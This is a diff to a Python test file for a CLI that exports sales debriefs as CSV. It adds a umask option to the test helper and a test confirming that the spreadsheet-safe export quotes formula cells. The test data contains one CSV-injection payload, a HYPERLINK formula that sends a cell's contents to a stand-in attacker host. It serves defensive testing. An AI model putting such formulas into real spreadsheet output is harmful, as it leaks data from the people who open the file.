@@ -34,7 +34,12 @@ CONTRACT_COLUMNS = [
 ]
 
 
-def run_cli(*args: str, env: dict[str, str] | None = None, cwd: Path | None = None):
+def run_cli(
+    *args: str,
+    env: dict[str, str] | None = None,
+    cwd: Path | None = None,
+    umask: int | None = None,
+):
     clean = {k: v for k, v in os.environ.items() if not k.startswith(("SLACK_", "DATABASE_"))}
     clean.update(env or {})
     # A scratch working directory, so a developer's own .env never leaks into a test.
@@ -47,6 +52,7 @@ def run_cli(*args: str, env: dict[str, str] | None = None, cwd: Path | None = No
         env=clean,
         cwd=workdir,
         timeout=60,
+        umask=-1 if umask is None else umask,
     )
 
 
@@ -466,3 +472,21 @@ def test_a_database_file_that_cannot_be_written_is_refused(tmp_path: Path) -> No
             assert f"cannot write the database file {path}: permission denied" in line
     finally:
         path.chmod(0o644)
+
+
+def test_spreadsheet_safe_export_quotes_what_a_spreadsheet_would_run(
+    running_app: RunningApp, tmp_path: Path
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    _record_both_ways(running_app, formula)
+    env = {"DATABASE_URL": running_app.db.url}
+    as_typed = list(csv.DictReader(io.StringIO(run_cli("export", "debriefs", env=env).stdout)))
+    assert [as_typed[0]["went_well"], as_typed[1]["improve"]] == [formula, formula]
+    result = run_cli("export", "debriefs", "--spreadsheet-safe", env=env)
+    assert result.returncode == 0, result.stderr
+    safe = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert [safe[0]["went_well"], safe[1]["improve"]] == ["'" + formula, "'" + formula]
+    assert safe[0]["deal"] == "Acme Corp" and safe[0]["call_date"] == "2026-11-30"
+    out = tmp_path / "safe.csv"
+    run_cli("export", "debriefs", "--spreadsheet-safe", "--output", str(out), env=env)
+    assert out.read_text(encoding="utf-8") == result.stdout
